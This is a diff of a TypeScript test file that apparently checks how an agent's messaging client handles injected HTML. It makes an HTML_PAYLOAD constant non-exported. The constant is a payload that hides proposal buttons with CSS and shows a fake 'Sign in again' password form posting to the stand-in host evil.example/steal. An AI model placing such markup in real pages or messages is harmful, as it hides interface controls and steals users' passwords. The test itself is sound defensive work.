@@ -7,7 +7,7 @@ import { sendMessage, waitForAgentReply, type Identity } from '../support/http.t
 import { signInAs, useTestServer } from '../support/test-server.ts';
 
 /** The issue's payload: a style sheet hiding the proposal buttons and a fake password form. */
-export const HTML_PAYLOAD =
+const HTML_PAYLOAD =
   '<style>.proposal-actions{display:none}</style><form action="https://evil.example/steal"><input type="password" name="pw"><button>Sign in again</button></form>';
 
 /** Sends `first`, then the usual details, until agent-1 proposes; returns the proposal as the client reads it. */
